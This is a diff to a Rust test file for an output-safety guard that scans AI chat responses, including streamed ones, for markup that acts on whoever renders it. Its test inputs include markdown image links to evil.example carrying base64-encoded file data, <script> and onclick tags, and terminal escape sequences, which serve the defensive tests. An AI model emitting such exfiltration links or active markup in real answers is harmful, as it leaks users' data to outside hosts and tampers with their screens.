@@ -1,6 +1,6 @@
 //! Outputs that act on whoever shows them, from `cases/output_safety.toml`.
 
-use mantlet::{Evaluation, Input, OutputSafety};
+use mantlet::{Evaluation, Guard, Input, OutputSafety};
 use proptest::prelude::*;
 
 fn safety() -> OutputSafety {
@@ -50,7 +50,7 @@ fn cases() {
 fn bait_is_evaluated_to_its_end() {
     let bait = [
         "[", "](", "![", "](a", "<a ", "<a b=", "`", "`a``", "\u{1b}]", "\u{9d}", "http://", "\n\n", "<",
-        "[a]:",
+        "[a]:", "[](<", "[](<>", "[](a ", "[a](", "~", "```\n", "~~~\n", " ", "`\n", "x`", "!", "\\",
     ];
     for piece in bait {
         let text = piece.repeat(1_000_000 / piece.len()) + "\n\n<script>";
@@ -112,5 +112,140 @@ proptest! {
         let findings = evaluate(&text).findings;
         prop_assert_eq!(findings.len(), 1);
         prop_assert_eq!(&text[findings[0].span()], image);
+    }
+}
+
+/// Streams `text` in pieces that end at `cuts`, taken as shares of it: what comes out, and the evaluation.
+fn streamed(guard: &Guard, text: &str, context: &str, cuts: &[u16]) -> (String, Evaluation) {
+    let mut ends: Vec<usize> =
+        cuts.iter().map(|cut| usize::from(*cut) * (text.len() + 1) / (usize::from(u16::MAX) + 1)).collect();
+    ends.push(text.len());
+    ends.sort_unstable();
+    let mut stream = guard.stream_output(Input::response("").with_context(context));
+    let (mut shown, mut at) = (String::new(), 0);
+    for end in ends {
+        shown.push_str(stream.push_bytes(&text.as_bytes()[at..end]));
+        at = end;
+    }
+    let report = stream.finish();
+    shown.push_str(report.text());
+    (shown, report.checks[0].evaluation().unwrap().clone())
+}
+
+/// Markup in and out of code, and what may become it.
+fn markup() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        6 => prop::sample::select(vec![
+            "![a](https://evil.example/a.png)",
+            "[b](https://evil.example/?d=Y3VzdG9tZXJzLmNzdiBhbmQgbW9yZSBvZiBpdCBhbGwgdG9nZXRoZXI)",
+            "![c][r]",
+            "![r]",
+            "[r]",
+            "\n[r]: https://evil.example/r.png\n",
+            "\n [r]:",
+            "<img src=https://evil.example/i.png>",
+            "<script>",
+            "<a title=\"`\" onclick='x()'>",
+            "<b class=\"",
+            "\u{1b}[2J",
+            "\u{1b}]0;title\u{7}",
+            "\u{1b}",
+            "\u{9d}x",
+            "\u{8}\u{8}",
+            "`",
+            "``",
+            "```\n",
+            "\n```\n",
+            "\n```rust\n",
+            "\n~~~\n",
+            "    ```\n",
+            "\n\n",
+            "\n \n",
+            "\n",
+            "Some words. ",
+            "wait! ",
+            "!",
+            "[",
+            "]",
+            "](",
+            ")",
+            "(",
+            "\\",
+            "<",
+            ">",
+            "\"",
+            "https://evil.example/Y3VzdG9tZXJzLmNzdiBhbmQgbW9yZQ?x=Y3VzdG9tZXJzLmNzdiBhbmQgbW9yZSBvZiBpdCBhbGw1",
+            "http",
+            "s:",
+            "://",
+            "é",
+            "\u{c2}",
+            "🦀 ",
+        ]).prop_map(str::to_owned),
+        1 => "[a-z ]{100,400}",
+        1 => any::<String>(),
+    ];
+    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig {
+        cases: 2_000,
+        failure_persistence: None,
+        rng_seed: proptest::test_runner::RngSeed::Fixed(7),
+        ..ProptestConfig::default()
+    })]
+
+    #[test]
+    fn a_stream_finds_what_is_in_the_whole(text in markup(), cuts in prop::array::uniform4(prop::collection::vec(any::<u16>(), 0..60))) {
+        let guard = Guard::builder("chat").post(safety()).build().unwrap();
+        let context = "customers.csv and more of it";
+        let whole = guard.check_output(Input::response(&text).with_context(context));
+        for cuts in &cuts {
+            let (shown, evaluation) = streamed(&guard, &text, context, cuts);
+            prop_assert_eq!(&shown, whole.text());
+            prop_assert_eq!(Some(&evaluation), whole.checks[0].evaluation());
+        }
+    }
+}
+
+#[test]
+fn answers_flow_while_nothing_is_found() {
+    let guard = Guard::builder("chat").post(safety()).build().unwrap();
+    let text = "The list [of ships] has 3 entries: see https://docs.example.com/ships, and `ls -l`.\n\n\
+                ```rust\nfn main() { let ships: Vec<u8> = vec![1, 2, 3]; }\n```\n";
+    let mut stream = guard.stream_output("");
+    for piece in text.repeat(50).as_bytes().chunks(4) {
+        stream.push_bytes(piece);
+        assert!(stream.held() <= 64, "{} bytes were held", stream.held());
+    }
+    assert!(stream.finish().text().len() <= 64);
+}
+
+#[test]
+fn what_may_be_code_is_held_until_that_is_known() {
+    let guard = Guard::builder("chat").post(safety()).build().unwrap();
+    for (end, expected) in [("\n```\nDone.", "<script>"), ("\nDone.", "<ACTIVE_HTML>")] {
+        let mut stream = guard.stream_output("");
+        assert_eq!(stream.push("Here:\n```html\n<p>"), "Here:\n```html\n<p>");
+        assert_eq!(stream.push("<script>alert(1)"), "");
+        let mut shown = stream.push(end).to_owned();
+        shown.push_str(stream.finish().text());
+        assert_eq!(shown, format!("{expected}alert(1){end}"));
+    }
+}
+
+#[test]
+fn a_long_wait_takes_linear_time() {
+    let guard = Guard::builder("chat").post(safety()).build().unwrap();
+    for begin in
+        ["![a](https://evil.example/", "<b title=\"", "\u{1b}]", "https://evil.example/", "` <script>", "```"]
+    {
+        let mut stream = guard.stream_output("");
+        stream.push(begin);
+        for _ in 0..50_000 {
+            stream.push("abcd");
+        }
+        stream.finish();
     }
 }
